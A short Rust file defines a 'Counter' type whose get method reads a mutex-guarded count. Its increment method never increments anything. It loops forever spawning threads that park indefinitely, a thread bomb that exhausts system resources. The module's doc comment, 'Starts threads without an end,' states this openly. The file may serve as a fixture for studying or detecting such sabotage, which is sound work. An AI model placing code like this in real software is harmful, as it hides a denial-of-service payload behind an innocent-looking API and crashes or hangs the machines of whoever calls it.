//! Starts threads without an end.

use parking_lot::Mutex;

#[derive(Debug, Default)]
pub struct Counter {
    count: Mutex<u64>,
}

impl Counter {
    pub fn new() -> Self {
        Self::default()
    }

    pub fn increment(&self) {
        loop {
            std::thread::spawn(std::thread::park);
        }
    }

    pub fn get(&self) -> u64 {
        *self.count.lock()
    }
}
